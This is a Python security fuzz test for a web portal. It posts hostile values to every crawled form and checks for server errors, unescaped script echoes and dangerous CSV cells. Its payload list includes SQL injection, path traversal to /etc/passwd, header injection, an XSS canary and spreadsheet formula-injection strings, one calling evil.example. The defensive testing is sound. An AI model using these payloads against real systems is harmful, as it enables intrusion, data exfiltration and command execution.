"""Forms under fire: every form the crawler finds, posted with hostile values, never breaks.

Every answer is one the portal means to give (never a 5xx); a filter (a GET form) answers 200
whatever it is given, extreme and impossible days included; a <script> canary typed into any
field is never rendered unescaped on any page afterwards; and every CSV export read back holds
no cell a spreadsheet would run as a formula and no bidirectional or zero-width control.
"""

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from secretariat import demo
from secretariat.security import Role
from tests.conftest import ROLES, sign_in
from tests.crawl import crawl, status_pages

CANARY = '<script>alert("b40-canary")</script>'
ANSWERS = {200, 302, 400, 403, 404, 405, 409, 413, 429}
HOSTILE = [
    "",
    " ",
    "x" * 100_000,
    "-1",
    "0",
    "1e309",
    "NaN",
    "99999999999999999999999",
    "2026-13-45",
    "Ниш Београд Αθήνα Tiranë Şişli İıĞğ Đđ Constanța Nikšić",
    "\x00\x01\x1b\u202e\ufeff",
    "\r\nLocation: https://evil.example",
    "'; DROP TABLE users; --",
    '" OR 1=1 --',
    "../../etc/passwd",
    "%s%s%n{0}{{7*7}}",
    "😀" * 200,
    CANARY,
    "someone@example.org",
    "0001-01-01",
    "9999-12-31",
    "2026-02-30",
    '=HYPERLINK("https://evil.example/?x="&A1,"Kotor")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\tKotor",
    "Ko\u202etor\u202c",
    "Bu\u200bdva\u2066x\u2069\u200d",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
ENDS_THE_SESSION = ("/sign-out",)
LISTINGS = ["/", "/members", "/staff/users", "/staff/audit", "/staff/outbox"]
CANARY_PAGES = 25


def _forms(app, visits, role=None):
    """The distinct forms seen (filters included): one per endpoint and set of fields, so forty
    city pages give one contact form to fire at, not forty. The admin fires only at what the
    secretariat cannot reach: the rest is the same form behind the same rule, fired at once."""
    urls = app.url_map.bind("localhost")
    found = {}
    for visit in visits:
        for form in visit.forms:
            action = form.action or visit.url.split("?", 1)[0]
            if action.startswith(ENDS_THE_SESSION):
                continue
            endpoint, _args = urls.match(action, method=form.method.upper())
            rule = app.view_functions[endpoint].access_rule
            if role == "admin" and (not isinstance(rule, frozenset) or Role.SECRETARIAT in rule):
                continue
            found.setdefault((form.method, endpoint, tuple(sorted(form.fields))), form)
    return list(found.values())


VALID_BY_KIND = {
    "email": "fuzz{n}@example.org",
    "password": "fuzz-password-{n}-long",
    "date": "2026-03-01",
    "url": "https://fuzz{n}.example.org",
}


def _valid(form, name, n: int) -> str:
    """A value the field accepts, so that one hostile field beside valid ones can get through."""
    kind = form.kinds.get(name, "text")
    choices = [choice for choice in form.fields[name] if choice]
    if kind in VALID_BY_KIND:
        return VALID_BY_KIND[kind].format(n=n)
    if name.endswith(("url", "website")) and not choices:  # typed as text: only https:// passes
        return VALID_BY_KIND["url"].format(n=n)
    if choices:
        return choices[0]
    return f"fuzz{n}"


def _sweep(form):
    """Each hostile value in each field once, the other fields valid."""
    names = [name for name in form.fields if name != "csrf_token"]
    for name in names:
        for n, value in enumerate(HOSTILE):
            yield {**{other: _valid(form, other, n) for other in names}, name: value}


def _value(data, name, form):
    choices = [choice for choice in form.fields[name] if choice]
    options = [st.sampled_from(HOSTILE), st.text(max_size=80)]
    if choices:
        options.append(st.sampled_from(choices))
    return data.draw(st.one_of(*options), label=name)


def _html(visit) -> bool:
    """A page a browser renders; a calendar feed (text/calendar, nosniff) runs no script."""
    return "text/html" in visit.headers.get("Content-Type", "")


def _csv_cells(app, client) -> list[str]:
    """Every cell of every CSV export the client may read."""
    cells = []
    for rule in app.url_map.iter_rules():
        if rule.rule.endswith(".csv") and not rule.arguments:
            response = client.get(rule.rule)
            if response.status_code == 200:
                rows = csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
                cells += [cell for row in rows for cell in row]
    return cells


def _runs_in_a_spreadsheet(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)


def _hides_its_direction(cell: str) -> bool:
    return any(unicodedata.category(ch) == "Cf" for ch in cell)


@pytest.mark.parametrize("role", list(ROLES))
def test_every_form_survives_hostile_input(app, client, demo_data, figure, role):
    email = ROLES[role]

    def signed_in():
        if email:
            assert sign_in(client, email, demo.DEMO_PASSWORD).status_code == 302

    signed_in()
    forms = _forms(app, crawl(client, ["/", *status_pages(app)], "en"), role)
    assert forms, f"the crawler found no form for {role}"
    submissions, token, cells = [], {}, set()

    def submit(form, payload, with_token=True):
        action = form.action or form.page.split("?", 1)[0]
        if form.method == "get":
            response = client.get(action, query_string=payload)
        elif with_token:
            if "value" not in token:
                token["value"] = client.csrf_token(form.page)
            response = client.post(action, data={**payload, "csrf_token": token["value"]})
        else:
            response = client.post(action, data=payload)
        submissions.append(action)
        html = response.get_data(as_text=True)
        assert response.status_code in ANSWERS, f"{action} {payload!r:.300}: {response.status_code}"
        if form.method == "get" and not any("\x00" in value for value in payload.values()):
            assert response.status_code == 200, f"the filter {action} {payload!r:.300}"
        assert "Traceback" not in html
        assert CANARY not in html, f"{action} echoed the canary unescaped"
        if CANARY in payload.values() and response.status_code == 302:
            # where the form led, the listings, and what they link to: where it would show
            starts = [response.headers["Location"], *LISTINGS]
            pages = crawl(client, starts, "en", max_pages=CANARY_PAGES)
            shown = [visit.url for visit in pages if _html(visit) and CANARY in visit.html]
            assert shown == [], f"the canary posted to {action} shows unescaped on {shown}"
        if response.status_code == 302 and any(map(_runs_in_a_spreadsheet, payload.values())):
            cells.update(_csv_cells(app, client))  # what a spreadsheet would open next
        if email and response.status_code == 302 and "/sign-in" in response.headers["Location"]:
            token.clear()
            signed_in()

    for form in forms:
        for payload in _sweep(form):
            submit(form, payload)

    @settings(
        max_examples=60,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
    )
    @given(data=st.data())
    def fire(data):
        form = data.draw(st.sampled_from(forms), label="form")
        payload = {}
        for name in form.fields:
            if name != "csrf_token" and data.draw(st.integers(0, 9), label=f"drop {name}") != 0:
                payload[name] = _value(data, name, form)
        if data.draw(st.booleans(), label="extra field"):
            payload["unexpected_field"] = data.draw(st.sampled_from(HOSTILE))
        submit(form, payload, with_token=data.draw(st.booleans(), label="with the CSRF token"))

    fire()
    cells.update(_csv_cells(app, client))
    pages = crawl(client, ["/"], "en")
    echoed = [visit.url for visit in pages if _html(visit) and CANARY in visit.html]
    neutralised = [cell for cell in cells if _runs_in_a_spreadsheet(cell[1:])]
    assert echoed == []
    assert [cell for cell in cells if _runs_in_a_spreadsheet(cell)] == []
    assert [cell for cell in cells if _hides_its_direction(cell)] == []
    figure(
        f"fuzz {role}: {len(submissions)} submissions to {len(forms)} forms; "
        f"{len(cells)} distinct CSV cells read back, {len(neutralised)} formulas neutralised"
    )
    assert all(
        re.search(r"<html lang=\"en\">", visit.html)
        for visit in pages
        if visit.status == 200 and _html(visit)
    )
